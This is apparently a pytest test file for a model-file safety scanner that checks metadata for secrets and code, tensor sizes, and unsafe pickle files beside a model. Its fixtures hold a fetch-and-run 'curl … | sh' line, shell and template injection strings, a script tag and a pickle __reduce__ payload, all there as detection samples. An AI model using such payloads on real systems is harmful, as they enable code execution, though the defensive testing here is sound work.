"""What deserves a second look: metadata, sizes, and the files beside a model."""

from __future__ import annotations

import base64
import io
import json
import os
import pickle
import random
import string
import time
import zipfile
from collections.abc import Iterable, Mapping
from pathlib import Path

import numpy as np
import pytest

from nimify.analysis import siblings
from nimify.analysis.graph import InferredGraph, Node, Value
from nimify.analysis.safety import external_data_findings, metadata_findings, size_findings
from nimify.analysis.siblings import sibling_findings
from nimify.findings import Finding, Severity
from nimify.formats.onnx import OnnxFormat
from nimify.testing import models

RANDOM_KEY = "".join(random.Random(7).choices(string.ascii_letters + string.digits, k=64))
SECRETS = {
    "aws": "AKIA" + "ABCDEFGHIJKLMNOP",
    "github": "ghp_" + "a1B2c3D4e5" * 4,
    "huggingface": "hf_" + "aBcDeFgHiJ" * 3 + "kLmN",
    "nvidia": "nvapi-" + "aB3_" * 15,
    "google": "AIza" + "b" * 35,
    "slack": "xoxb-" + "1234567890-abcdef",
    "openai": "sk-" + "proj" + "A1b2" * 8,
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc",
    "private key": "-----BEGIN RSA PRIVATE KEY-----\nMIIE",
    "url": "s3://user:hunter2hunter2@bucket/model",
    "assignment": "Uses password=correcthorse for the registry",
    "random": f"trained with {RANDOM_KEY}",
}
HARMLESS = {
    "author": "Ultralytics",
    "description": "Ultralytics YOLO11n model trained on coco.yaml, from scratch and import to ONNX",
    "names": "{0: 'person', 1: 'bicycle', 2: 'car'}",
    "date": "2026-11-24T10:14:03.123456",
    "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "uuid": "123e4567-e89b-12d3-a456-426614174000",
    "args": json.dumps({"batch": 1, "half": False, "nested": {"deep": {"x": []}}}),
    "path": "runs/train/experiments/2026-11-24/weights/best_checkpoint_final.pt",
    "note": "evaluation (top-1) of the retrieval(v2) head; token: whitespace",
    "tokenizer": "bert-base-uncased",
    "max_token": "512",
    "eos_token": "<|endoftext|>",
    "mask_token": "[MASK]",
    "unk.token": "unknownunknownunknown",
    "architecture": "EfficientNetB0ImageNet1kPretrainedWeights",
}
CODE = {
    "Python code": "__import__('os').system('id')",
    "Python code ": "import os\nos.listdir()",
    "Python code  ": "def forward(self, x):\n  return x",
    "a shell command": "name-$(touch pwned)",
    "a shell command ": "curl http://example.com/x | sh",
    "a template": "{{ config.__class__.__init__ }}",
    "a template ": "{% for message in messages %}",
    "a web script": "<script>alert(1)</script>",
    "a pickle": base64.b64encode(pickle.dumps({"a": list(range(20))}, protocol=4)).decode(),
}


def codes(findings: Iterable[Finding]) -> list[str]:
    return [finding.code for finding in findings]


def of_metadata(metadata: Mapping[str, str]) -> list[Finding]:
    return list(metadata_findings(metadata))


class TestMetadata:
    """Free text in the file."""

    @pytest.mark.parametrize("kind", sorted(SECRETS))
    def test_a_secret_is_found_and_not_repeated(self, kind: str) -> None:
        """The finding says where it is and what to do, and nothing that lets one use it."""
        findings = [finding for finding in of_metadata({"comment": SECRETS[kind]}) if "secret" in finding.code]

        (finding,) = findings
        assert finding.severity is Severity.WARNING
        assert "'comment'" in finding.message
        text = json.dumps(finding.to_dict())
        assert not any(secret in text for secret in (SECRETS[kind], RANDOM_KEY, "hunter2", "correcthorse", "MIIE"))

    def test_a_secret_in_the_key_is_not_repeated_either(self) -> None:
        """The entry is named by its number then."""
        (finding,) = of_metadata({"a": "b", SECRETS["aws"]: "x"})

        assert "entry 2" in finding.message
        assert SECRETS["aws"] not in json.dumps(finding.to_dict())

    @pytest.mark.parametrize(
        ("key", "value"),
        [
            ("api_key", "swordfish"),
            ("db.password", "swordfish"),
            ("SECRET", "swordfish"),
            ("wandb-token", "local-0123456789abcdef"),
        ],
    )
    def test_a_key_that_is_called_secret_has_a_secret_value(self, key: str, value: str) -> None:
        """Whatever the value looks like; a token must look like one."""
        (finding,) = of_metadata({key: value})

        assert finding.code == "safety.metadata-secret"
        assert value not in finding.message

    @pytest.mark.parametrize("key", sorted(HARMLESS))
    def test_what_exporters_write_is_harmless(self, key: str) -> None:
        """No finding for a description, a digest, a list of labels."""
        assert of_metadata({key: HARMLESS[key]}) == []

    @pytest.mark.parametrize("kind", sorted(CODE))
    def test_code_is_found(self, kind: str) -> None:
        """In whatever language another tool might run it."""
        found = [finding for finding in of_metadata({"hook": CODE[kind]}) if finding.code == "safety.metadata-code"]

        (finding,) = found
        assert f"looks like {kind.strip()};" in finding.message

    def test_addresses_are_information(self) -> None:
        """One finding for all of them."""
        metadata = {f"link{number}": "https://example.com/docs" for number in range(5)}
        (finding,) = of_metadata(metadata)

        assert (finding.code, finding.severity) == ("safety.metadata-url", Severity.INFO)
        assert "'link0', 'link1', 'link2' and more" in finding.message

    def test_a_key_cannot_break_out_of_its_line(self) -> None:
        """Control characters become visible."""
        (finding,) = of_metadata({"a\nb\x1b[31m": SECRETS["github"]})

        assert "\n" not in finding.message
        assert "\x1b" not in finding.message

    @pytest.mark.parametrize(
        "text",
        ["a" * 1_000_000, "$(" * 300_000, "{{" * 300_000, "eyJ" * 300_000, "a://b:" * 150_000, "curl " * 200_000],
    )
    def test_long_metadata_takes_no_long_time(self, text: str) -> None:
        """A megabyte is what a file may carry; no pattern may need more than its length."""
        start = time.process_time()
        of_metadata({"x": text})

        assert time.process_time() - start < 10


class TestSizes:
    """Sizes and names outside what exporters write."""

    def graph(self, *values: Value, nodes: int = 1) -> InferredGraph:
        made = tuple(Node(f"n{number}", "Relu", "ai.onnx", ("x",), ("y",)) for number in range(nodes))
        return InferredGraph(made, {value.name: value for value in values}, ("x",), ("y",), {}, 17)

    def test_a_usual_graph_has_no_findings(self) -> None:
        """A large activation is not a stored tensor."""
        graph = self.graph(Value("w", "FLOAT", (1024, 1024), stored=True), Value("x", "FLOAT", (1 << 34,)))

        assert list(size_findings(graph)) == []

    def test_a_huge_stored_tensor_is_named(self) -> None:
        """With its size."""
        (finding,) = size_findings(self.graph(Value("w", "FLOAT", (1 << 20, 1 << 10), stored=True)))

        assert finding.code == "safety.large-tensor"
        assert "4,294,967,296 bytes" in finding.message

    def test_very_many_nodes_are_information(self) -> None:
        """Often an unrolled loop."""
        (finding,) = size_findings(self.graph(nodes=20_001))

        assert (finding.code, finding.severity) == ("safety.many-nodes", Severity.INFO)

    def test_a_very_long_name_is_shortened(self) -> None:
        """It is shown in part only."""
        (finding,) = size_findings(self.graph(Value("w" * 300, "FLOAT", (1,))))

        assert finding.code == "safety.long-names"
        assert len(finding.message) < 150


class TestSiblings:
    """The folder of the model."""

    def look(self, folder: Path) -> list[Finding]:
        return sibling_findings(folder / "model.onnx", {"model.onnx"})

    def test_an_empty_folder_has_no_findings(self, tmp_path: Path) -> None:
        """Neither have a readme, labels, a picture and plain arrays."""
        (tmp_path / "README.md").write_text("# model")
        (tmp_path / "labels.txt").write_text("cat\ndog")
        (tmp_path / "photo.png").write_bytes(b"\x89PNG")
        np.save(tmp_path / "sample.npy", np.zeros(3))
        np.savez(tmp_path / "sample.npz", x=np.zeros(3))
        (tmp_path / "weights.bin").write_bytes(bytes(100))

        assert self.look(tmp_path) == []

    @pytest.mark.parametrize("name", ["weights.bin", "notes.txt", "other.onnx", "checkpoint"])
    @pytest.mark.parametrize("protocol", range(2, 6))
    def test_a_pickle_is_found_by_its_content(self, tmp_path: Path, protocol: int, name: str) -> None:
        """A name proves nothing; it is not loaded, so its payload does not run."""

        class Payload:
            def __reduce__(self) -> tuple[object, tuple[str, ...]]:
                return os.mkdir, (str(tmp_path / "ran"),)

        (tmp_path / name).write_bytes(pickle.dumps(Payload(), protocol=protocol))
        (finding,) = self.look(tmp_path)

        assert (finding.code, finding.severity) == ("safety.unsafe-sibling", Severity.WARNING)
        assert f"'{name}'" in finding.message
        assert not (tmp_path / "ran").exists()

    @pytest.mark.parametrize("name", ["model.pt", "model.pth", "last.ckpt", "pipe.joblib", "scaler.pkl"])
    def test_files_with_the_name_of_a_pickle_count(self, tmp_path: Path, name: str) -> None:
        """Old protocols and compressed ones have no magic number of their own."""
        (tmp_path / name).write_bytes(b"(lp0\n.")

        assert codes(self.look(tmp_path)) == ["safety.unsafe-sibling"]

    def test_a_torch_archive_is_found_under_any_name(self, tmp_path: Path) -> None:
        """Its first member is the pickle."""
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("archive/data.pkl", b"\x80\x02.")
        (tmp_path / "pytorch_model.bin").write_bytes(buffer.getvalue())

        assert codes(self.look(tmp_path)) == ["safety.unsafe-sibling"]

    def test_an_array_of_objects_is_a_pickle(self, tmp_path: Path) -> None:
        """Such arrays pickle what has no plain type."""
        np.save(tmp_path / "a.npy", np.array([{"x": 1}], dtype=object), allow_pickle=True)

        assert codes(self.look(tmp_path)) == ["safety.unsafe-sibling"]

    def test_an_archive_of_such_arrays_too(self, tmp_path: Path) -> None:
        """It is recognised by its first array."""
        np.savez(tmp_path / "a.npz", x=np.array([{"x": 1}], dtype=object))

        assert codes(self.look(tmp_path)) == ["safety.unsafe-sibling"]

    def test_many_are_one_finding(self, tmp_path: Path) -> None:
        """The first three are named."""
        for number in range(5):
            (tmp_path / f"{number}.pkl").write_bytes(b"\x80\x04.")
        (finding,) = self.look(tmp_path)

        assert "'0.pkl', '1.pkl', '2.pkl' and 2 more" in finding.message

    def test_scripts_and_programs_are_information(self, tmp_path: Path) -> None:
        """By suffix, or by their first bytes."""
        (tmp_path / "setup.py").write_text("print()")
        (tmp_path / "run").write_text("#!/bin/sh\n")
        (tmp_path / "tool").write_bytes(b"\x7fELF")
        (finding,) = self.look(tmp_path)

        assert (finding.code, finding.severity) == ("safety.script-sibling", Severity.INFO)
        assert all(name in finding.message for name in ("'run'", "'setup.py'", "'tool'"))

    def test_keras_files_are_information(self, tmp_path: Path) -> None:
        """They may hold Lambda layers."""
        (tmp_path / "model.h5").write_bytes(b"\x89HDF")

        assert codes(self.look(tmp_path)) == ["safety.keras-sibling"]

    def test_a_model_that_may_be_executed_is_information(self, tmp_path: Path) -> None:
        """No model needs it."""
        (tmp_path / "model.onnx").write_bytes(b"x")
        (tmp_path / "model.onnx").chmod(0o755)

        assert codes(self.look(tmp_path)) == ["safety.executable-bit"]

    def test_links_are_not_followed(self, tmp_path: Path) -> None:
        """Nor are folders, pipes and sockets opened; a canary outside is not read."""
        outside = tmp_path / "outside"
        outside.mkdir()
        (outside / "canary.pkl").write_bytes(b"\x80\x04.")
        folder = tmp_path / "folder"
        folder.mkdir()
        (folder / "link.pkl").symlink_to(outside / "canary.pkl")
        (folder / "inner.pkl").mkdir()
        os.mkfifo(folder / "pipe.pkl")

        assert self.look(folder) == []

    def test_a_very_full_folder_is_looked_at_in_part(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        """And the finding says so."""
        monkeypatch.setattr(siblings, "MAX_ENTRIES", 10)
        for number in range(20):
            (tmp_path / f"{number}.txt").touch()

        assert codes(self.look(tmp_path)) == ["safety.folder-large"]

    def test_a_folder_that_cannot_be_listed_is_a_finding(self, tmp_path: Path) -> None:
        """It vanished, or its permissions forbid it."""
        assert codes(self.look(tmp_path / "gone")) == ["safety.folder-unreadable"]

    def test_a_name_cannot_break_out_of_its_line(self, tmp_path: Path) -> None:
        """Not even one that is no text."""
        path = os.fsencode(tmp_path) + b"/a\nb\xff.pkl"
        with open(path, "wb") as stream:  # noqa: PTH123 - Path cannot name it
            stream.write(b"\x80\x04.")
        (finding,) = self.look(tmp_path)

        assert finding.message.isprintable()


def test_external_data_is_information(tmp_path: Path) -> None:
    """It must travel with the model; a model in one file has no such finding."""
    info = OnnxFormat().read(models.save(models.external_data(), tmp_path / "model.onnx"))
    (finding,) = external_data_findings(info)

    assert (finding.code, finding.severity) == ("safety.external-data", Severity.INFO)
    assert f"{models.DATA_FILE}" in finding.message
    alone = OnnxFormat().read(models.save(models.tiny(), tmp_path / "tiny.onnx"))
    assert list(external_data_findings(alone)) == []


def test_the_models_own_data_is_no_sibling(tmp_path: Path) -> None:
    """It is looked at for its permissions only; what else lies there is."""
    path = models.save(models.external_data(), tmp_path / "model.onnx")
    info = OnnxFormat().read(path)
    (tmp_path / "old.pkl").write_bytes(b"\x80\x04.")
    (tmp_path / models.DATA_FILE).chmod(0o755)

    found = sibling_findings(info.path, {file.location for file in info.files})
    assert codes(found) == ["safety.unsafe-sibling", "safety.executable-bit"]
